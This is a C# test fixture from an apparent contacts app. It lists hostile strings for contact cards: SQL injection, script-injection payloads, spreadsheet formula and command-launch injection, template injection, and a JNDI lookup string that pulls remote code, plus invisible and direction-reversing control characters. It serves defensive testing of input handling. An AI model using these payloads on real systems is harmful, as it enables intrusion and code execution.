namespace FrontDesk.Tests.Contacts;

/// <summary>What somebody may try to do to a desk through a card.</summary>
public static class Hostile
{
    public static readonly string[] Texts =
    [
        "Robert'); drop table contacts;--",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "=HYPERLINK(\"http://example.org\",\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "'=1+1",
        "＝1+1",
        "{boss} {number} {name}",
        "{{constructor.constructor('alert(1)')()}}",
        "a;b,c\\n\\;d\"e",
        "BEGIN:VCARD;END:VCARD",
        "%s%n ${jndi:ldap://example.org/a}",
        "שלום עולם",
        "👩‍👩‍👧 Zoë",
    ];

    /// <summary>What is taken out of a card: controls, and what turns the direction of the text around it. (NUL the form's own reader refuses.)</summary>
    public const string Unseen = "\u0007\u001b\u202e\u2066\u200e\ufeff";
}
